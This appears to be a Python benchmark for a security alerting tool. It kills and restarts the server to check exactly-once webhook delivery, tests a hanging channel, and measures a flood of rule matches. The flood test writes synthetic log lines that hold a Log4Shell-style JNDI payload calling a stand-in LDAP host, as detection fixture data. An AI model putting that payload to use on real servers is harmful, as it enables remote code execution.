"""Whether everything is announced, once, by a ThreatLens that is killed again and again.

Incidents keep coming while a real server is killed (SIGKILL, at random moments) and started anew, and a real receiver
takes what it sends. In the end every incident must have been announced under one key, no message may have come twice,
and the history must be complete: a row for every incident, each in its last state, which agrees with what the receiver
got. Half of the kills are aimed at the worst moment: just after a message was received, its answer being on its way.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime as dt
import http.client
import json
import math
import os
import random
import signal
import socket
import subprocess
import sys
import threading
import time
from collections import Counter, defaultdict
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from benchmarks.product import ROOT, Product, free_port, wait_for, workshop
from benchmarks.table import Table, against

#: One rule opens no more than 50 incidents within six hours; so there are several.
PER_RULE = 45
#: Seconds that a message may be late because of another channel.
LATE_S = 5.0
#: States in which nothing more becomes of a message.
FINAL = frozenset({"sent", "failed", "suppressed"})
#: Messages that a channel takes in a minute while much happens, and that minute as the receiver sees it.
PER_MINUTE, MINUTE_S = 6, 58.0
RULE = """title: Probe {n}
id: 00000000-0000-4000-8000-{n:012d}
status: test
logsource: {{category: authentication}}
detection:
  selection: {{user.name: probe{n}}}
  condition: selection
level: high
"""


@dataclass
class Got:
    """One message as it came in; all times are the receiver's, which are the killer's too."""

    key: str
    body: bytes
    life: int  # of ThreatLens, in which it was sent
    received_s: float
    answering_s: float = math.inf  # just before the answer was handed to the system
    answered_s: float = math.inf  # just after; never: whoever sent it was gone


class Receiver:
    """Takes webhooks, each in up to 30 ms, and remembers them."""

    def __init__(self, dice: random.Random) -> None:
        self.got: list[Got] = []
        self.life = 0
        self.handling = 0  # requests
        self.came = threading.Event()  # set by each message
        receiver, lock = self, threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["content-length"]))
                if len(body) < int(self.headers["content-length"]):
                    return  # whoever sent it was killed half way: nothing was received
                time.sleep(dice.random() * 0.03)
                got = Got(self.headers["webhook-id"], body, receiver.life, time.monotonic())
                receiver.got.append(got)
                receiver.came.set()
                with contextlib.suppress(OSError):  # whoever sent it may have been killed
                    self.send_response(204)
                    got.answering_s = time.monotonic()
                    self.end_headers()
                    got.answered_s = time.monotonic()

            def log_message(self, *args: Any) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def process_request(self, *request: Any) -> None:
                with lock:
                    receiver.handling += 1
                super().process_request(*request)

            def process_request_thread(self, *request: Any) -> None:
                super().process_request_thread(*request)
                with lock:
                    receiver.handling -= 1

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def finish_life(self) -> None:
        """All that was sent by the ThreatLens that is dead now has been taken; a new one may begin."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port)
        connection.request("GET", "/")  # it is accepted after all that came before
        connection.getresponse().read()
        connection.close()
        wait_for("what was on its way", lambda: not self.handling, timeout_s=30)
        self.life += 1

    def close(self) -> None:
        self._server.shutdown()


def prepare(product: Product, receiver: Receiver, incidents: int, stuck_port: int = 0) -> list[str]:
    """Rules, configuration, and one line for each incident; a second channel leads to the port that hangs."""
    rules = os.path.join(product.data, "rules")
    os.makedirs(rules, exist_ok=True)
    config: dict[str, Any] = {
        "allowed_roots": [product.logs], "allowed_private_networks": ["127.0.0.0/8"],
        "sources": [{"name": "auth", "path": os.path.join(product.logs, "auth.log"), "start_at": "beginning"}],
        "channels": [{"name": "hook", "type": "webhook", "url": f"http://127.0.0.1:{receiver.port}/",
                      "max_per_minute": 600}],
        "notification_rules": [{"name": "all", "channels": ["hook"], "cooldown_minutes": 600}],
    }  # fmt: skip
    if stuck_port:
        hanging = {"name": "stuck", "type": "webhook", "url": f"http://127.0.0.1:{stuck_port}/", "max_per_minute": 600}
        config["channels"].insert(0, hanging)
        config["notification_rules"][0]["channels"] = ["stuck", "hook"]
    with open(os.path.join(product.data, "threatlens.yaml"), "w") as file:
        file.write(json.dumps(config))
    for number in range(1, incidents // PER_RULE + 2):
        with open(os.path.join(rules, f"probe{number}.yml"), "w") as file:
            file.write(RULE.format(n=number))
    now = f"{dt.datetime.now(dt.UTC):%b %e %H:%M:%S}"
    return [
        f"{now} web1 sshd[{1000 + number}]: Failed password for probe{number // PER_RULE + 1} from"
        f" 198.51.{number // 250}.{number % 250 + 1} port 50000 ssh2\n"
        for number in range(incidents)
    ]


def start(product: Product, port: int) -> subprocess.Popen[bytes]:
    with open(os.path.join(product.folder, "server.log"), "ab") as log:
        return subprocess.Popen(
            [sys.executable, "-m", "threatlens", "serve"], cwd=ROOT, env=product.env(port), stdout=log, stderr=log,
            start_new_session=True,
        )  # fmt: skip


def kill(process: subprocess.Popen[bytes]) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def is_settled(product: Product, lines: int) -> bool:
    """Whether every line is stored and nothing waits to be sent."""
    with contextlib.closing(product.connection()) as connection:
        events, waiting, told = connection.execute(
            "SELECT (SELECT count(*) FROM events),"
            " (SELECT count(*) FROM notification_history WHERE status = 'pending'),"
            " (SELECT count(*) FROM incidents WHERE id NOT IN (SELECT incident_id FROM notification_history))"
        ).fetchone()
    return bool(events >= lines and not waiting and not told)


def run(
    product: Product, receiver: Receiver, incidents: int, kills: int, dice: random.Random
) -> tuple[float, list[tuple[float, float]]]:
    """Feed, kill and restart; the seconds it took until everything was said, and when each kill began and was done."""
    lines = prepare(product, receiver, incidents)
    step = -(-len(lines) // (kills + 1))
    port = free_port()
    begun = time.monotonic()
    killed: list[tuple[float, float]] = []
    with open(os.path.join(product.logs, "auth.log"), "w") as log:
        for number in range(kills + 1):
            process = start(product, port)
            log.writelines(lines[number * step : (number + 1) * step])
            log.flush()
            if number < kills:
                enough = len(receiver.got) + dice.randrange(1, step)
                with contextlib.suppress(TimeoutError):  # most kills strike while messages go out, some before
                    wait_for("messages", lambda: len(receiver.got) >= enough, timeout_s=dice.choice((3, 20, 20)))  # noqa: B023
                aimed = dice.random() < 0.5  # while an answer is on its way, or was just received
                if aimed:
                    receiver.came.clear()
                    receiver.came.wait(2)
                time.sleep(dice.random() * (0.005 if aimed else 0.4))
                killing = time.monotonic()
                os.killpg(process.pid, signal.SIGKILL)
                killed.append((killing, time.monotonic()))
                kill(process)
                receiver.finish_life()
        try:
            wait_for("the end", lambda: is_settled(product, len(lines)), timeout_s=180, every_s=0.5)
        finally:
            kill(process)
    return time.monotonic() - begun, killed


def repeats(receiver: Receiver, killed: list[tuple[float, float]]) -> Counter[str]:
    """The messages that came again, by what the receiver had done when the kill struck that came between."""
    found: Counter[str] = Counter()
    last: dict[str, Got] = {}
    for got in receiver.got:
        before = last.get(got.key)
        last[got.key] = got
        if before is None:
            continue
        if before.life == got.life:
            found["without a kill between"] += 1
        elif before.answered_s < killed[before.life][0]:
            found["answered before the kill"] += 1
            print(f"answered {1e3 * (killed[before.life][0] - before.answered_s):.2f} ms before the kill")
        elif before.answering_s < killed[before.life][1]:
            found["answered in the instant of the kill"] += 1
        else:
            found["not answered before the kill"] += 1
    return found


def report(product: Product, receiver: Receiver, killed: list[tuple[float, float]], taken: float) -> bool:
    """Print what came of it; whether all is as it must be."""
    with contextlib.closing(product.connection()) as connection:
        incidents = {row[0] for row in connection.execute("SELECT id FROM incidents")}
        rows = connection.execute(
            "SELECT key, incident_id, status, coalesce(error_message, '') FROM notification_history"
        ).fetchall()
    bodies: dict[str, set[bytes]] = defaultdict(set)
    for got in receiver.got:
        bodies[got.key].add(got.body)
    of_key = {key: incident_id for key, incident_id, *_ in rows}
    announced = Counter(of_key[key] for key in bodies if key in of_key)
    sent = {key for key, _, status, _ in rows if status == "sent"}
    unanswered = {key for key, _, status, why in rows if status == "sent" and why}
    unfinished = sum(status not in FINAL for _, _, status, _ in rows)
    again = repeats(receiver, killed)
    close = sum(any(0 <= a - got.received_s < 0.01 for got in receiver.got) for a, _ in killed)
    table = Table(f"Announced through {len(killed)} kills, in {taken:,.0f} s", "what", "number", "verdict")
    found = [
        ("incidents", len(incidents), True),
        ("of them announced", len(incidents & set(announced)), incidents <= set(announced)),
        ("announced under more than one key", sum(n > 1 for n in announced.values()), max(announced.values()) == 1),
        ("kills within 10 ms of a message's arrival", close, True),
        ("received twice with the same key", sum(again.values()), not again),
        *((f"of those {moment}", n, False) for moment, n in again.items()),
        ("with other bytes under the same key", sum(len(each) > 1 for each in bodies.values()),
         all(len(each) == 1 for each in bodies.values())),
        ("incidents without a row in the history", len(incidents - {row[1] for row in rows}),
         incidents <= {row[1] for row in rows}),
        ("rows that are in no last state", unfinished, unfinished == 0),
        ("rows that say sent, and nothing was received", len(sent - set(bodies)), sent <= set(bodies)),
        ("received, and its row does not say sent", len(set(bodies) - sent), set(bodies) <= sent),
        ("rows that say: sent, and the answer was not seen", len(unanswered), True),
    ]  # fmt: skip
    for what, number, good in found:
        table.add(what, f"{number:,}", "holds" if good else "missed")
    table.show()
    return all(good for *_, good in found)


def beside_a_hanging_channel(product: Product, receiver: Receiver, incidents: int) -> bool:
    """How late messages are by one channel while another takes every message and never answers."""
    stuck = socket.create_server(("127.0.0.1", 0), backlog=100)  # nobody accepts: a connection, and then nothing
    lines = prepare(product, receiver, incidents, stuck.getsockname()[1])
    late: list[float] = []
    with open(os.path.join(product.logs, "auth.log"), "w") as log:
        process = start(product, free_port())
        try:
            log.write(lines[0])
            log.flush()
            wait_for("the first message", lambda: bool(receiver.got), timeout_s=120)
            for number, line in enumerate(lines[1:], 2):
                log.write(line)
                log.flush()
                late.append(wait_for("a message", lambda: len(receiver.got) >= number, timeout_s=60))  # noqa: B023
        finally:
            kill(process)
            stuck.close()
    table = Table("Beside a channel that hangs, from line to receiver", "what", "seconds", "verdict")
    table.add(f"median of {len(late)} messages", f"{sorted(late)[len(late) // 2]:.2f}", "-")
    table.add("slowest", f"{max(late):.2f}", against(max(late), LATE_S))
    table.show()
    return max(late) <= LATE_S


def is_told(product: Product, lines: int) -> bool:
    """Whether every line is stored and every match is in a message that left."""
    with contextlib.closing(product.connection()) as connection:
        events, untold, waiting = connection.execute(
            "SELECT (SELECT count(*) FROM events), (SELECT count(*) FROM notification_threads WHERE n > told),"
            " (SELECT count(*) FROM notification_history WHERE status = 'pending')"
        ).fetchone()
    return bool(events >= lines and not untold and not waiting)


def in_a_flood(product: Product, receiver: Receiver, matches: int) -> bool:
    """How many messages the shipped rules' matches of one minute make, and whether their counts are all of them.

    Every line is an attempt of one rule's kind, of 200 clients in turn; to other rules some of these are scanners.
    Meanwhile somebody asks every second whether the server can do its work.
    """
    prepare(product, receiver, 1)
    path = os.path.join(product.data, "threatlens.yaml")
    with open(path) as file:
        config = json.load(file)
    config["channels"][0]["max_per_minute"] = PER_MINUTE
    config["notification_rules"] = [{"name": "all", "channels": ["hook"], "min_severity": 1, "cooldown_minutes": 1}]
    with open(path, "w") as file:
        file.write(json.dumps(config))
    port = free_port()
    process = start(product, port)
    begun = time.monotonic()
    asked: list[tuple[float, int]] = []  # seconds, status
    try:
        wait_for("an answer", lambda: _asked(port)[1] == 200, timeout_s=120)
        with open(os.path.join(product.logs, "auth.log"), "w") as log:
            for first in range(0, matches, matches // 40):
                now = dt.datetime.now(dt.UTC)
                log.writelines(
                    f"203.0.113.{number % 200 + 1} - - [{now:%d/%b/%Y:%H:%M:%S} +0000]"
                    f' "GET /?x=${{jndi:ldap://198.51.100.7/a{number}}} HTTP/1.1" 404 153 "-" "Mozilla/5.0"\n'
                    for number in range(first, min(matches, first + matches // 40))
                )
                log.flush()
                asked.append(_asked(port))
                time.sleep(max(0.0, 1 - asked[-1][0]))
        wait_for("the end", lambda: is_told(product, matches), timeout_s=600, every_s=0.5)
    finally:
        kill(process)
    with contextlib.closing(product.connection()) as connection:
        (matched,) = connection.execute(
            "SELECT sum(n) FROM incident_members GROUP BY rule_id ORDER BY sum(n) DESC LIMIT 1"
        ).fetchone()
        incidents, found = connection.execute("SELECT count(*), sum(n) FROM incidents").fetchone()
        history = {row[0] for row in connection.execute("SELECT key FROM notification_history WHERE status = 'sent'")}
    told = sum(json.loads(body)["data"]["count"] for body in {got.key: got.body for got in receiver.got}.values())
    at_s = [got.received_s for got in receiver.got]
    most = max(sum(0 <= other - at < MINUTE_S for other in at_s) for at in at_s)
    table = Table(f"{matches:,} lines that match, in 40 s; told within {time.monotonic() - begun:,.0f} s", "what",
                  "number", "verdict")  # fmt: skip
    rows = [
        ("matches of the lines' rule in the incidents", matched, matched == matches),
        ("matches of all rules in the incidents", found, found >= matches),
        ("matches counted by the messages", told, told == found),
        ("incidents", incidents, True),
        ("messages", len(receiver.got), True),
        ("of them in the history", len(history), history == {got.key for got in receiver.got}),
        ("times it was asked whether it is ready", len(asked), True),
        ("of them not ready", sum(status != 200 for _, status in asked), all(status == 200 for _, status in asked)),
        ("slowest answer, ms", round(1e3 * max(asked)[0]), True),
        ("of them within one minute, at most", most, most <= PER_MINUTE),
    ]  # fmt: skip
    for what, number, good in rows:
        table.add(what, f"{number:,}", "holds" if good else "missed")
    table.show()
    return all(good for *_, good in rows)


def _asked(port: int) -> tuple[float, int]:
    """Seconds that the answer to "ready?" took, and its status; 0: there was none."""
    begun = time.monotonic()
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request("GET", "/readyz")
        status = connection.getresponse().status
    except OSError:
        status = 0
    finally:
        connection.close()
    return time.monotonic() - begun, status


def main() -> int:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--incidents", type=int, default=500)
    options.add_argument("--kills", type=int, default=30)
    options.add_argument("--matches", type=int, default=10_000)
    options.add_argument("--seed", type=int, default=1)
    options.add_argument("--only", choices=("kills", "hanging", "flood"), help="one part alone")
    arguments = options.parse_args()
    dice = random.Random(arguments.seed)
    receiver = Receiver(random.Random(arguments.seed + 1))
    good = True
    for part in (arguments.only,) if arguments.only else ("kills", "hanging", "flood"):
        receiver.got.clear()
        with workshop() as folder:
            product = Product(folder)
            if part == "kills":
                taken, killed = run(product, receiver, arguments.incidents, arguments.kills, dice)
                good &= report(product, receiver, killed, taken)
            elif part == "hanging":
                good &= beside_a_hanging_channel(product, receiver, min(21, arguments.incidents))
            else:
                good &= in_a_flood(product, receiver, arguments.matches)
    receiver.close()
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
